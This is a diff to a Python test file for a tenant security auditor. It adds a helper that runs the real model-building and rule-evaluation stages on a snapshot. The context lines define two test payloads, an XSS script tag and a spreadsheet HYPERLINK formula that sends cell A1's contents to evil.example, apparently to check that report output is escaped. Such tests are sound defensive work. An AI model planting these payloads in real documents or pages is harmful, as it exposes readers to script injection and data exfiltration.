@@ -14,10 +14,14 @@ from typing import Any
 
 import pandas as pd
 
+from auditor.config import AuditorConfig
+from auditor.engine import evaluate
 from auditor.findings import AuditResult, Finding, RuleOutcome, RunInfo
+from auditor.model import TenantModel, build_model
 from auditor.render.context import ReportContext, build_report_context
 from auditor.rules import REGISTRY
 from auditor.rules.registry import headlines
+from auditor.snapshot import Snapshot
 
 XSS = "<script>window.__pwned = 1; alert(1)</script>"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -393,6 +397,13 @@ def make_model() -> SimpleNamespace:
         legacy_sign_ins=legacy,
         role_holdings=pd.DataFrame(),
     )
+
+
+def evaluated(snapshot: Snapshot) -> tuple[AuditResult, TenantModel]:
+    """The real stages on a snapshot with the default configuration: the result and the model it came from."""
+    config = AuditorConfig()
+    model = build_model(snapshot, config.classification, config.legacy_mfa)
+    return evaluate(model, REGISTRY, config.rules, config.waivers, coverage=snapshot.coverage()), model
 
 
 def make_context(extra_findings: int = 0) -> ReportContext:
